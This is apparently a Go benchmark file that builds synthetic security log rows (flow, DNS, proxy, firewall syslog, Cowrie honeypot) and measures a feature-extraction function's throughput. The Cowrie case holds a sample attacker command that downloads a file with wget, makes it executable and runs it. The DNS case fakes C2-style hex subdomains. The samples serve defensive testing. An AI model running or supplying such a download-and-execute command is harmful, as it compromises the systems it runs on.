package words

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"
)

// benchRows makes n synthetic rows of a recipe, deterministic, with the
// variety of a busy day: many addresses, ports, names, agents.
func benchRows(recipe string, n int) []Row {
	rng := rand.New(rand.NewPCG(1, 2))
	day := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)
	ip := func() string {
		return fmt.Sprintf("10.%d.%d.%d", rng.IntN(4), rng.IntN(256), rng.IntN(256))
	}
	pick := func(xs ...string) string { return xs[rng.IntN(len(xs))] }
	rows := make([]Row, n)
	for i := range rows {
		r := base("")
		r.Time = day.Add(time.Duration(rng.Int64N(int64(24 * time.Hour))))
		switch recipe {
		case "flow":
			r.Format = "vpcflow"
			r.SrcIP, r.DstIP = ip(), ip()
			r.SrcPort, r.DstPort = int32(1025+rng.IntN(60000)), int32([]int{22, 53, 80, 443, 3389, 8080, 0}[rng.IntN(7)])
			r.Proto = pick("tcp", "tcp", "tcp", "udp", "icmp")
			r.FlowBytes, r.FlowPackets = rng.Int64N(1<<24), rng.Int64N(1<<12)
		case "dns":
			r.Format = "dns"
			r.SrcIP, r.DstIP = "10.0.0.53", ip()
			r.DNSQuery = pick("www.google.com", "outlook.office365.com", "e1234.a.akamaiedge.net",
				fmt.Sprintf("host%d.corp.example", rng.IntN(500)),
				fmt.Sprintf("%x.t.example-c2.net", rng.Uint64()), "wpad", "8.8.8.8")
			r.DNSQType, r.DNSRCode = pick("A", "AAAA", "TXT", "PTR"), pick("NOERROR", "NOERROR", "NXDOMAIN")
			r.DNSFrameLen = int32(60 + rng.IntN(400))
		case "web":
			r.Format, r.Source = "squid", "proxy"
			r.SrcIP = ip()
			host := pick("www.google.com", "www.cnn.com", "api.github.com", fmt.Sprintf("cdn%d.example.net", rng.IntN(50)))
			r.HTTPHost = host
			r.HTTPURL = fmt.Sprintf("http://%s/path/%d/item.js?id=%x", host, rng.IntN(1000), rng.Uint32())
			r.HTTPMethod, r.HTTPStatus = pick("GET", "GET", "POST", "CONNECT"), int32(pick2(rng, 200, 304, 404))
			r.HTTPContentType = pick("text/html; charset=utf-8", "image/png", "application/javascript", "application/json", "")
			r.HTTPUserAgent = fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/%d.0", 100+rng.IntN(30))
		case "syslog":
			r.Format = "syslog"
			r.DvcHost, r.App, r.Severity = fmt.Sprintf("fw%d", rng.IntN(8)), "ASA", "info"
			r.EventType = "%ASA-6-302014"
			r.Message = fmt.Sprintf("Teardown TCP connection %d for outside:%s/%d to inside:%s/443 duration 0:00:%02d bytes %d TCP FINs",
				rng.IntN(1e9), ip(), 1024+rng.IntN(60000), ip(), rng.IntN(60), rng.IntN(1e6))
		case "cowrie":
			r.Format = "cowrie"
			r.SrcIP, r.EventType = ip(), "cowrie.command.input"
			r.Message = "CMD: " + pick("uname -a", "cd /tmp; wget http://x/y; chmod +x y; ./y", "cat /proc/cpuinfo | grep name | wc -l")
		}
		rows[i] = r
	}
	return rows
}

func pick2(rng *rand.Rand, xs ...int) int { return xs[rng.IntN(len(xs))] }

// BenchmarkWords measures Words per recipe on one goroutine and reports
// rows/s and words/s.
func BenchmarkWords(b *testing.B) {
	for _, recipe := range []string{"flow", "dns", "web", "syslog", "cowrie"} {
		b.Run(recipe, func(b *testing.B) {
			rows := benchRows(recipe, 1<<14)
			s := NewStats(Options{AllowDomains: []string{"corp.example"}})
			for i := range rows {
				s.Observe(&rows[i])
			}
			pairs := make([]Pair, 0, 4)
			nw := 0
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				pairs = s.Words(pairs[:0], &rows[i&(len(rows)-1)])
				nw += len(pairs)
			}
			sec := b.Elapsed().Seconds()
			b.ReportMetric(float64(b.N)/sec, "rows/s")
			b.ReportMetric(float64(nw)/sec, "words/s")
		})
	}
}

// BenchmarkObserve measures the first pass on web rows.
func BenchmarkObserve(b *testing.B) {
	rows := benchRows("web", 1<<14)
	s := NewStats(Options{})
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Observe(&rows[i&(len(rows)-1)])
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
}
